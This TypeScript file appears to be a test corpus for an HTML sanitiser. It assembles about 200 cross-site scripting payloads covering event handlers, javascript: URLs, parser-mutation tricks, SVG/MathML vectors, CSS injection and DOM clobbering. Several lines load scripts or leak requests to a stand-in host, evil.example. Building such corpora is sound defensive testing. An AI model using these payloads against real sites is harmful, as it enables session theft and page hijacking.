/**
 * Lists 200 hostile texts for code that renders foreign HTML. Each tries to set `window.hit`, open a dialog, leave the page, restyle
 * it or shadow a name of the document. They are grouped by the abused feature, so that a failure names it.
 */

const hit = 'window.hit=1';
const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==';

/** Elements with handlers, most of which run without a click. */
const selfFiring: Readonly<Record<string, readonly string[]>> = {
  [`img src=${pixel}`]: ['onload', 'onloadstart', 'onanimationstart'],
  'img src=/front/none.png': ['onerror'],
  svg: ['onload', 'onfocusin', 'onbegin'],
  'svg viewBox="0 0 1 1"': ['OnLoad', 'ONLOAD'],
  body: ['onload', 'onpageshow', 'onfocus', 'onhashchange', 'onscroll', 'onresize', 'onmessage'],
  'video src=/front/none.mp4': ['onerror', 'onloadstart', 'oncanplay', 'onsuspend'],
  'audio src=/front/none.mp3': ['onerror', 'onloadstart', 'onstalled'],
  'details open': ['ontoggle'],
  'input autofocus': ['onfocus', 'onfocusin', 'onauxclick'],
  'select autofocus': ['onfocus'],
  'textarea autofocus': ['onfocus'],
  'button autofocus': ['onfocus', 'onclick'],
  'a tabindex=1 href=#': ['onfocus', 'onclick', 'onmouseover'],
  'marquee width=1 loop=1': ['onstart', 'onbounce', 'onfinish'],
  'div style="animation:x 1s"': ['onanimationstart', 'onanimationend'],
  'div style="transition:all 1s" tabindex=1': ['ontransitionend', 'onwheel'],
  'div contenteditable': ['oninput', 'onblur', 'onkeydown', 'onpaste'],
  'div draggable=true': ['ondrag', 'ondragstart'],
  p: ['onpointerover', 'onpointerenter', 'onpointerrawupdate', 'oncontextmenu', 'onbeforematch'],
  'iframe src=about:blank': ['onload'],
  'object data=/front/none': ['onerror', 'onload'],
  'embed src=/front/none': ['onload'],
  'link rel=stylesheet href=/front/none.css': ['onload', 'onerror'],
  style: ['onload', 'onerror'],
  'form id=x': ['onsubmit', 'onformdata', 'onreset'],
  'dialog open': ['onclose', 'oncancel'],
  'div popover': ['onbeforetoggle', 'ontoggle'],
  'meter value=1': ['onmouseover', 'onclick'],
  progress: ['onclick'],
  'table background=/front/none': ['onmouseenter'],
  math: ['onclick', 'onmouseover'],
};

const handlers = Object.entries(selfFiring).flatMap(([tag, names]) =>
  names.map((name) => `<${tag} ${name}="${hit}">x`),
);

/** Spellings of a handler that a search for `on…=` misses. */
const disguisedHandlers = [
  `<svg/onload=${hit}>`,
  `<svg\nonload\n=\n${hit}>`,
  `<svg\tonload=${hit}>`,
  `<img src=x:x onerror\x0c=${hit}>`,
  `<img src="x"onerror="${hit}">`,
  `<img src='x' onerror=&#119;indow.hit=1>`,
  `<img """><script>${hit}</script>">`,
  `<<script>${hit}//<</script>`,
  `<img src=x onerror="&#x77;indow.hit&#61;1">`,
  `<IMG SRC=x ONERROR=${hit}>`,
  `<img/src=x/onerror=${hit}/>`,
  `<img src=\`x\` onerror=${hit}>`,
  `<svg><g/onload=${hit}//<p>`,
  `<x onclick=${hit}>x</x>`,
  `<custom-element onfocus=${hit} tabindex=0 autofocus>x</custom-element>`,
];

const scriptUrls = [
  `javascript:${hit}`,
  `JaVaScRiPt:${hit}`,
  ` javascript:${hit}`,
  `java\tscript:${hit}`,
  `java\nscript:${hit}`,
  `java&Tab;script:${hit}`,
  `java&NewLine;script:${hit}`,
  `javascript&colon;${hit}`,
  `&#106;avascript:${hit}`,
  `&#x6A;&#x61;vascript:${hit}`,
  `&#0000106avascript:${hit}`,
  `\x01javascript:${hit}`,
  `javascript://%0a${hit}`,
  `vbscript:${hit}`,
  `data:text/html,<script>parent.hit=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${hit}'/>`,
].map((url) => `<a href="${url}">x</a>`);

const urlHolders = [
  `<iframe src="javascript:parent.hit=1"></iframe>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.hit=1&lt;/script&gt;"></iframe>`,
  `<frameset><frame src="javascript:parent.hit=1"></frameset>`,
  `<object data="javascript:${hit}"></object>`,
  `<object><param name="src" value="javascript:${hit}"></object>`,
  `<embed src="javascript:${hit}">`,
  `<applet code="javascript:${hit}"></applet>`,
  `<form action="javascript:${hit}"><button>x</button></form>`,
  `<form><button formaction="javascript:${hit}">x</button></form>`,
  `<button form=x formaction="javascript:${hit}">x</button>`,
  `<isindex action="javascript:${hit}" type=submit>`,
  `<area shape=rect coords="0,0,9,9" href="javascript:${hit}">`,
  `<map name=m><area href="javascript:${hit}"></map><img usemap=#m src="${pixel}">`,
  `<video poster="javascript:${hit}"></video>`,
  `<table background="javascript:${hit}"><tr><td>x</table>`,
  `<img src="javascript:${hit}">`,
  `<img lowsrc="javascript:${hit}">`,
  `<input type=image src="javascript:${hit}">`,
  `<link rel=import href="data:text/html,<script>${hit}</script>">`,
  `<link rel=prefetch href="https://evil.example/leak">`,
  `<base href="https://evil.example/">`,
  `<base href="javascript:/a/"><a href="b">x</a>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<meta http-equiv=refresh content="0;javascript:${hit}">`,
  `<meta http-equiv="Set-Cookie" content="sim_session=stolen">`,
];

const scripts = [
  `<script>${hit}</script>`,
  `<ScRiPt>${hit}</sCrIpT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script type=module>${hit}</script>`,
  `<script>${hit}`,
  `<scr<script>ipt>${hit}</scr</script>ipt>`,
  `</p><script>${hit}</script><p>`,
  `"><script>${hit}</script>`,
  `'--></style></script><script>${hit}</script>`,
  `<!--><script>${hit}</script>-->`,
  `<![CDATA[<script>${hit}</script>]]>`,
  `<script\x20type="text/javascript">${hit};</script>`,
  `<template><script>${hit}</script></template>`,
  `<template shadowrootmode=open><script>${hit}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${hit}>"></noscript>`,
];

/** Texts that the sanitiser and the page parse differently. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${hit}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${hit}>">`,
  `<svg><style><img src=x onerror=${hit}></style></svg>`,
  `<svg><desc><style><!--</style><img src=x onerror=${hit}>--></desc></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${hit}></annotation-xml></math>`,
  `<svg><foreignObject><iframe onload=${hit}></iframe></foreignObject></svg>`,
  `<noembed><img title="</noembed><img src=x onerror=${hit}>"></noembed>`,
  `<noframes><p title="</noframes><img src=x onerror=${hit}>"></noframes>`,
  `<xmp><p title="</xmp><img src=x onerror=${hit}>"></xmp>`,
  `<textarea><p title="</textarea><img src=x onerror=${hit}>"></textarea>`,
  `<title><p title="</title><img src=x onerror=${hit}>"></title>`,
  `<select><iframe><select><img src=x onerror=${hit}></select></iframe></select>`,
  `<plaintext><img src=x onerror=${hit}>`,
  `<listing>&lt;img src=x onerror=${hit}&gt;</listing>`,
  `<p id="<svg><style><img src=x onerror=${hit}>">x</p>`,
  `<table><td><svg><style><img src=x onerror=${hit}></table>`,
];

const svgs = [
  `<svg><script>${hit}</script></svg>`,
  `<svg><script xlink:href="data:,${hit}"/></svg>`,
  `<svg><a xlink:href="javascript:${hit}"><text y=9>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${hit}"/><text y=9>x</text></a></svg>`,
  `<svg><a><set attributeName=href to="javascript:${hit}"/><text y=9>x</text></a></svg>`,
  `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
  `<svg><set onbegin=${hit} attributeName=x to=1>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${hit}'/></svg>#x"/></svg>`,
  `<svg><image href=x onerror=${hit} /></svg>`,
  `<svg><discard onbegin=${hit}>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${hit}</handler></svg>`,
  `<math href="javascript:${hit}">x</math>`,
  `<math><mi xlink:href="javascript:${hit}">x</mi></math>`,
  `<math><maction actiontype="statusline#${hit}" xlink:href="javascript:${hit}">x</maction></math>`,
];

const styles = [
  `<style>body{display:none}</style>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style>*{background:url("https://evil.example/leak")}</style>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:#000">x</div>`,
  `<div style="background:url(javascript:${hit})">x</div>`,
  `<div style="width:expression(${hit})">x</div>`,
  `<div style="-moz-binding:url('https://evil.example/x.xml#x')">x</div>`,
  `<p style="behavior:url(x.htc)">x</p>`,
];

/** Names that would shadow the document's own. */
const clobbering = ['getElementById', 'body', 'cookie', 'location', 'createElement'].map(
  (name) => `<img name=${name} id=${name} src="${pixel}">`,
);

/** Texts that frameworks or old browsers would run: templates, and unusual elements. */
const others = [
  `{{constructor.constructor('${hit}')()}}`,
  `<div ng-app>{{$eval.constructor('${hit}')()}}</div>`,
  `<div v-html="'<img src=x onerror=${hit}>'"></div>`,
  `<div data-bind="html: '<img src=x onerror=${hit}>'"></div>`,
  `<video><source onerror="${hit}"></video>`,
  `<audio><track src=x onerror="${hit}"></audio>`,
  `<slot onslotchange="${hit}">x</slot>`,
  `<bgsound src="javascript:${hit}">`,
  `<portal src="javascript:${hit}"></portal>`,
  `<input type=hidden oncontentvisibilityautostatechange="${hit}" style="content-visibility:auto">`,
];

const all = [
  ...handlers,
  ...disguisedHandlers,
  ...scriptUrls,
  ...urlHolders,
  ...scripts,
  ...mutations,
  ...svgs,
  ...styles,
  ...clobbering,
  ...others,
];

export const xssCorpus: readonly string[] = [...new Set(all)];
